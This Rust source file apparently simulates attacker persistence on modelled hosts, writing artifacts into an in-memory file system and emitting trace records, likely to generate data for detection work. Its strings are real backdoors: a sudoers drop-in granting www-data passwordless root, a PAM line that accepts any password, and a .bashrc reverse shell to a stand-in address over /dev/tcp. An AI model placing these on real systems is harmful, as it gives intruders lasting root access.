//! Attacks that turn a foothold into lasting rights by changing who may do what.

use super::Trace;
use super::persistence::break_in;
use crate::dice::Dice;
use crate::fleet::file::Content;
use crate::fleet::host::Host;

pub(super) fn sudoers_drop_in(host: &mut Host, dice: &Dice) -> Vec<Trace> {
    let then = break_in(host, &mut dice.clone());
    let (path, who, what) = ("/etc/sudoers.d/90-cloud", "www-data", "ALL=(ALL) NOPASSWD: ALL");
    host.files.put(path, 0o440, then, Content::Text(format!("{who} {what}\n")));
    vec![
        Trace::added("sudoers", [("source", path), ("header", who), ("rule_details", what)]),
        Trace::added("login_files", [("path", path)]),
    ]
}

pub(super) fn pam_backdoor(host: &mut Host, dice: &Dice) -> Vec<Trace> {
    let then = break_in(host, &mut dice.clone());
    let path = "/etc/pam.d/common-auth";
    host.files.text(
        path,
        then,
        "auth sufficient pam_permit.so\nauth\t[success=1 default=ignore]\tpam_unix.so nullok\n\
         auth\trequisite\tpam_deny.so\nauth\trequired\tpam_permit.so\n",
    );
    vec![Trace::changed("login_files", [("path", path)])]
}

pub(super) fn rc_file(host: &mut Host, dice: &Dice) -> Vec<Trace> {
    let then = break_in(host, &mut dice.clone());
    let path = "/root/.bashrc";
    if let Some(file) = host.files.get_mut(path) {
        if let Content::Text(text) = &mut file.content {
            text.push_str(
                "(setsid sh -c \"exec 3<>/dev/tcp/203.0.113.66/443; sh <&3 >&3\" >/dev/null 2>&1 &)\n",
            );
        }
        file.changed = then;
    }
    vec![Trace::changed("persistence_files", [("path", path)])]
}
